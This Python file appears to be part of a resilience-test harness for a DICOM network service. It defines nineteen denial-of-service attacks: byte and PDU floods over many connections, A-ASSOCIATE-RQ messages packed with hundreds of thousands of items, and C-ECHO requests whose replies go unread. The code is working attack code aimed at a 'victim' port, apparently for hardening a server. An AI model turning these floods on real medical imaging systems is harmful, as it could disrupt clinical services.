"""Bytes that cost the event loop more than the sender: PDUs, items and messages, and answers that nobody reads."""

from __future__ import annotations

import selectors
import socket
import time
from collections.abc import Callable, Iterable
from contextlib import ExitStack
from struct import pack

from attack.harness import Attack, Victim
from attack.wire import HOST, IMPLICIT, VERIFICATION, Requestor, associate_rq, command, element, p_data

MIB = 1 << 20
SECONDS = 6.0
ECHO_RQ = 0x0030
_ECHO = p_data(1, 3, command(ECHO_RQ, VERIFICATION, data=False))
_RELEASE_RQ = bytes.fromhex("05000000000400000000")
_ABORT = bytes.fromhex("07000000000400000000")
_EMPTY_PDV = p_data(1, 1, b"")


def _mib(unit: bytes) -> bytes:
    return unit * (MIB // len(unit))


def _item(kind: int, value: bytes) -> bytes:
    return pack(">BxH", kind, len(value)) + value


def _request(*more: bytes, contexts: Iterable[bytes] | None = None, user_items: bytes = b"") -> bytes:
    """An A-ASSOCIATE-RQ with these presentation contexts, or one for verification, and `more` items."""
    if contexts is None:
        contexts = _contexts(1, 1)
    items = [_item(0x10, b"1.2.840.10008.3.1.1.1"), *contexts]
    items.append(_item(0x50, _item(0x51, pack(">I", 1 << 18)) + _item(0x52, b"1.2.3") + user_items))
    body = pack(">Hxx16s16s32x", 1, b"DULCIMER".ljust(16), b"ATTACK".ljust(16)) + b"".join([*items, *more])
    return pack(">BxI", 1, len(body)) + body


def _context(number: int, abstract: bytes, transfer: Iterable[bytes]) -> bytes:
    value = _item(0x30, abstract) + b"".join(_item(0x40, syntax) for syntax in transfer)
    return _item(0x20, pack(">Bxxx", number & 255) + value)


def _contexts(count: int, syntaxes: int, abstract: bytes = VERIFICATION.encode()) -> list[bytes]:
    names = [IMPLICIT.encode(), *(b"1.%d" % number for number in range(1, syntaxes))]
    return [_context(2 * number + 1, abstract, names) for number in range(count)]


def _roles(count: int) -> bytes:
    names = [VERIFICATION.encode(), *(b"1.2.840.10008.5.1.4.1.1.%d" % number for number in range(1, count))]
    return b"".join(_item(0x54, pack(">H", len(name)) + name + b"\1\0") for name in names)


def _related(count: int) -> bytes:
    """A user information item with an SOP Class Common Extended Negotiation of this many related classes."""
    names = bytes(2 * count)
    return _item(0x50, _item(0x57, pack(">H", 3) + b"1.2" + pack(">H", 3) + b"1.3" + pack(">H", len(names)) + names))


def _flood(data: bytes, *, associated: bool = False, connections: int = 1) -> Callable[[Victim], str]:
    """Send the bytes repeatedly on each connection, read the answers, and reconnect when the peer closes."""

    def act(victim: Victim) -> str:
        sent = opened = 0
        end = time.monotonic() + SECONDS
        head = associate_rq([(VERIFICATION, IMPLICIT)]) if associated else b""
        with selectors.DefaultSelector() as selector, ExitStack() as stack:

            def open_one() -> None:
                nonlocal opened
                opened += 1
                connection = stack.enter_context(socket.create_connection((HOST, victim.port), 60))
                connection.setblocking(False)
                selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, [memoryview(head + data)])

            for _ in range(connections):
                open_one()
            while time.monotonic() < end:
                for key, events in selector.select(0.1):
                    connection, waiting = key.fileobj, key.data
                    assert isinstance(connection, socket.socket)
                    try:
                        if events & selectors.EVENT_READ and not connection.recv(MIB):
                            raise ConnectionResetError
                        if events & selectors.EVENT_WRITE:
                            count = connection.send(waiting[0])
                            sent += count
                            waiting[0] = waiting[0][count:] or memoryview(data)
                    except BlockingIOError:
                        continue
                    except OSError:
                        selector.unregister(connection)
                        connection.close()
                        open_one()
        return f"{sent / MIB:.0f} MiB taken, {opened} connections"

    return act


def _again(request: bytes) -> Callable[[Victim], str]:
    """Request an association with these bytes repeatedly; returns the first PDU of the answers."""

    def act(victim: Victim) -> str:
        answers: dict[str, int] = {}
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            with socket.create_connection((HOST, victim.port), 60) as connection:
                try:
                    connection.sendall(request)
                    answer = connection.recv(10)
                except OSError as error:
                    answer = type(error).__name__.encode()
                name = {2: "accepted", 3: "rejected", 7: "aborted"}.get(answer[0] if answer else 0, repr(answer))
                answers[name] = answers.get(name, 0) + 1
        return ", ".join(f"{count} {name}" for name, count in answers.items())

    return act


def _unread(connections: int, size: int) -> Callable[[Victim], str]:
    """Thousands of C-ECHO requests whose answers are not read."""

    def act(victim: Victim) -> str:
        block = memoryview(_mib(_ECHO))
        sent = 0
        end = time.monotonic() + SECONDS
        with ExitStack() as stack:
            opened: list[tuple[socket.socket, list[memoryview]]] = []
            for _ in range(connections):
                requestor = stack.enter_context(Requestor.open(victim.port, VERIFICATION))
                requestor.connection.setblocking(False)
                opened.append((requestor.connection, [block]))
            while time.monotonic() < end and sent < size:
                for connection, left in opened:
                    try:
                        count = connection.send(left[0])
                    except BlockingIOError:
                        continue
                    except OSError:
                        count = 0
                    sent += count
                    left[0] = left[0][count:] or block
                time.sleep(0.001)
        return f"{sent / MIB:.1f} MiB taken"

    return act


def _repeated() -> bytes:
    """A C-ECHO-RQ of nearly 64 kB, with the same element 8,150 times."""
    head = command(ECHO_RQ, VERIFICATION, data=False)
    return p_data(1, 3, head + element(0x00000002, b"") * 8150)


ATTACKS = [
    Attack("zero bytes for ever", _flood(bytes(MIB))),
    Attack("zero bytes for ever on 100 connections", _flood(bytes(MIB), connections=100)),
    Attack("PDUs of 4 MiB refused, then zero bytes", _flood(b"\x63\0\0\x40\0\0" + bytes(5 * MIB))),
    Attack("A-ABORT for ever", _flood(_mib(_ABORT))),
    Attack("C-ECHO-RQ for ever", _flood(_mib(_ECHO), associated=True)),
    Attack("C-ECHO-RQ for ever on 50 connections", _flood(_mib(_ECHO), associated=True, connections=50)),
    Attack("empty PDVs for ever", _flood(_mib(_EMPTY_PDV), associated=True)),
    Attack("A-RELEASE-RQ for ever", _flood(_mib(_RELEASE_RQ), associated=True)),
    Attack(
        "P-DATA-TF with 43,000 PDVs",
        _flood(pack(">BxI", 4, 43_000 * 6) + bytes.fromhex("000000020101") * 43_000, associated=True),
    ),
    Attack("8,150 repeated elements, for ever", _flood(_repeated() * 16, associated=True)),
    Attack("A-ASSOCIATE-RQ, 260,000 application contexts", _again(_request(_item(0x10, b"") * 260_000))),
    Attack("A-ASSOCIATE-RQ, 86,000 presentation contexts", _again(_request(contexts=[_context(1, b"", ())] * 86_000))),
    Attack("A-ASSOCIATE-RQ, 260,000 unknown items", _again(_request(_item(0x77, b"") * 260_000))),
    Attack("A-ASSOCIATE-RQ, 15 x 32,000 related classes", _again(_request(*[_related(32_000)] * 15))),
    Attack("A-ASSOCIATE-RQ, 128 contexts x 851 syntaxes", _again(_request(contexts=_contexts(128, 851)))),
    Attack(
        "A-ASSOCIATE-RQ, 598 roles, 128 contexts x 300 syntaxes",
        _again(_request(contexts=_contexts(128, 300), user_items=_roles(598))),
    ),
    Attack("A-ASSOCIATE-RQ, lawful, 128 contexts x 59 syntaxes", _again(_request(contexts=_contexts(128, 59)))),
    Attack("C-ECHO-RQ whose answers nobody reads", _unread(1, 85 * MIB), ("-td", "3")),
    Attack("the same on 50 associations", _unread(50, 850 * MIB), ("-td", "3")),
]
